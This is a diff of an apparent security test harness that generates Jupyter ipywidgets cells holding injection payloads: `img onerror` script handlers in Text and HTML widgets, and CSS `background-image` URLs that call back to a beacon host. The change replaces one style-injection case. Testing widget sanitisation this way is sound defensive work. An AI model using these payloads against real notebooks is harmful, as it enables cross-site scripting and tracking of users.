@@ -133,8 +133,7 @@ def widget_cells(beacon: str) -> list[tuple[str, str]]:
         ("w11", f"a11 = w.Text('<img src=x onerror=\"{js('w11')}\">'); b11 = w.HTML('x')\n"
                 "l11 = w.jslink((a11, 'value'), (b11, 'value')); display(a11, b11)"),
         ("fw12", f"w.Label(value='$\\\\style{{background-image:url(http://{b}/fw12)}}{{x}}$')"),
-        ("fw13", f"w.Button(description='b', layout=w.Layout(width='10px'), style={{'button_color': "
-                 f"'red; background-image: url(http://{b}/fw13)'}})"),
+        ("fw13", f"w.Label(value='b', style={{'background': 'red url(//{b}/fw13)'}})"),
         ("w14", f"w.Text(value='<img src=x onerror=\"{js('w14')}\">', _view_module='@jupyter-widgets/controls', "
                 "_view_name='HTMLView', _model_name='HTMLModel')"),
         ("fw15", f"o15 = w.Output(); display(o15)\n"
